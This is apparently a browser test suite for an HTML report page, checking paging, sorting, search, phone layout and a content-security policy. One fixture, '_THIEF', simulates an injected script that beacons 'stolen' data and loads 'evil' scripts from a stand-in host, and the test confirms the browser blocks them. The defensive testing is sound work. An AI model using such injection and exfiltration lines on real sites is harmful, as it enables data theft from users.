"""The page in a browser: without complaints, on a phone, searched and sorted."""

from __future__ import annotations

import pytest

from ops.report.words import Language
from tests.ops.report.browser import CHROMIUM, Seen, Visit, look
from tests.ops.report.pages import a_page, hostile_records
from tests.ops.report.records import a_record

NO_BROWSER = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: nobody has looked at the report in a browser")
#: Says the same on every Python.
pytestmark = [pytest.mark.once, NO_BROWSER]

#: What a person does, one after the other, and what is in the table then.
_PERSON = """
const find = (selector) => document.querySelector(selector);
const keys = () => [...document.querySelectorAll("#body .key")].map((one) => one.textContent);
const says = () => find("#status").textContent;
const sorts = () => [...document.querySelectorAll("#results th")].map((th) => th.getAttribute("aria-sort"));
const search = (text) => { find("#search").value = text; find("#search").dispatchEvent(new Event("input")); };
const choose = (place) => { find("#verdict").value = place; find("#verdict").dispatchEvent(new Event("change")); };
const press = (column) => find(`th.${column} button`).click();

const hidden = ["#controls", "#without", "#more"].map((one) => find(one).hidden);
outcome.begin = [says(), keys().length, keys()[0], ...hidden];
outcome.first = [...find("#body tr").children].map((td) => td.innerText);
find("#more").click();
outcome.more = [says(), keys().length, find("#more").hidden];
press("took"); outcome.quickest = [keys()[0], keys().at(-1), sorts()[6]];
press("took"); outcome.slowest = [keys()[0], keys().at(-1), sorts()];
press("object"); outcome.named = [keys().slice(0, 3), sorts()];
search("CLIP-1 broken"); outcome.found = [keys(), says()];
search("<b>nothing</b>"); outcome.nothing = [keys(), says(), find("#more").hidden];
search(""); outcome.missing = keys().filter((_, place) => !document.querySelectorAll("#body .missing")[place].hidden);
choose("2"); outcome.failed = [keys(), says()];
choose(""); press("at"); press("at"); outcome.again = [keys()[0], says()];
"""
#: What somebody would do who got a script into the page.
_THIEF = """
outcome.refused = [];
document.addEventListener("securitypolicyviolation", (event) => outcome.refused.push(event.effectiveDirective));
const made = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
made("img", { src: "https://example.invalid/?stolen" });
made("script", { textContent: "document.title = 'evil'" });
made("script", { src: "https://example.invalid/evil.js" });
fetch("https://example.invalid/").catch(() => {});
"""
#: Whether anything is wider than the window.
_READER = """
outcome.width = innerWidth;
outcome.tooWide = document.documentElement.scrollWidth - document.documentElement.clientWidth;
outcome.title = document.title;
outcome.keys = [...document.querySelectorAll("#body .key")].map((one) => one.textContent);
outcome.name = getComputedStyle(document.querySelector("#body td.at"), "::before").content;
"""


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Seen]:
    folder = tmp_path_factory.mktemp("browser")
    rows = [
        a_record(f"{n}", key=f"clip-{n}.mp4", at=f"2026-11-20T{8 + n // 60:02}:{n % 60:02}:30Z", size=n)
        for n in range(1, 61)
    ]
    rows[9] |= {"verdict": "failed", "code": "Broken", "message": "no frames"}
    rows[8] |= {"applied": 0, "reason": "unwritable"}
    known = a_record("known", key="clip-0.mp4", at="2026-11-19T08:00:00Z", jobs=())
    desk = a_page(folder / "desk", *rows, known)
    phones = {one.value: a_page(folder / one.value, *hostile_records(), language=one) for one in Language}
    return look(
        desk=Visit(desk, _PERSON + _THIEF, 1280), **{name: Visit(one, _READER, 360) for name, one in phones.items()}
    )


def test_the_newest_results_are_there_at_once_and_the_others_on_demand(seen: dict[str, Seen]) -> None:
    assert seen["desk"].outcome["begin"] == ["50 of 61 shown", 50, "clip-60.mp4", False, True, False]
    assert seen["desk"].outcome["first"] == [
        "2026-11-20 09:00:30", "clip-60.mp4", "No watermark", "", "", "60 B", "1 h"
    ]  # fmt: skip
    assert seen["desk"].outcome["more"] == ["61 of 61 shown", 61, True]


def test_a_column_sorts_up_and_down_and_what_has_no_value_comes_last(seen: dict[str, Seen]) -> None:
    down = [None, None, None, None, None, None, "descending"]

    assert seen["desk"].outcome["quickest"] == ["clip-1.mp4", "clip-50.mp4", "ascending"]
    assert seen["desk"].outcome["slowest"] == ["clip-60.mp4", "clip-11.mp4", down]
    assert seen["desk"].outcome["named"] == [
        ["clip-0.mp4", "clip-1.mp4", "clip-2.mp4"],
        [None, "ascending", *5 * [None]],
    ]
    assert seen["desk"].outcome["again"] == ["clip-60.mp4", "50 of 61 shown"]


def test_a_search_wants_all_its_words_in_any_case_and_column(seen: dict[str, Seen]) -> None:
    assert seen["desk"].outcome["found"] == [["clip-10.mp4"], "1 of 1 shown"]
    assert seen["desk"].outcome["nothing"] == [[], "0 of 0 shown", True]
    assert seen["desk"].outcome["missing"] == ["clip-9.mp4"]
    assert seen["desk"].outcome["failed"] == [["clip-10.mp4"], "1 of 1 shown"]


def test_even_a_script_in_the_page_could_reach_nobody(seen: dict[str, Seen]) -> None:
    wanted = ["connect-src", "img-src", "script-src-elem", "script-src-elem"]

    assert sorted(seen["desk"].outcome["refused"]) == wanted
    # The browser says so for each, which shows that its complaints are seen here.
    assert len(seen["desk"].console) >= len(wanted)


@pytest.mark.parametrize("language", Language)
def test_a_phone_shows_all_of_it_and_nothing_in_it_runs(seen: dict[str, Seen], language: Language) -> None:
    phone = seen[language.value]

    assert (phone.outcome["width"], phone.outcome["tooWide"]) == (360, 0)
    assert "evil" not in phone.outcome["title"]
    assert len(phone.outcome["keys"]) == 39
    assert phone.outcome["name"] == {"en": '"Ended (UTC)"', "zh": '"完成时间（UTC）"'}[language.value]
    assert phone.console == ()
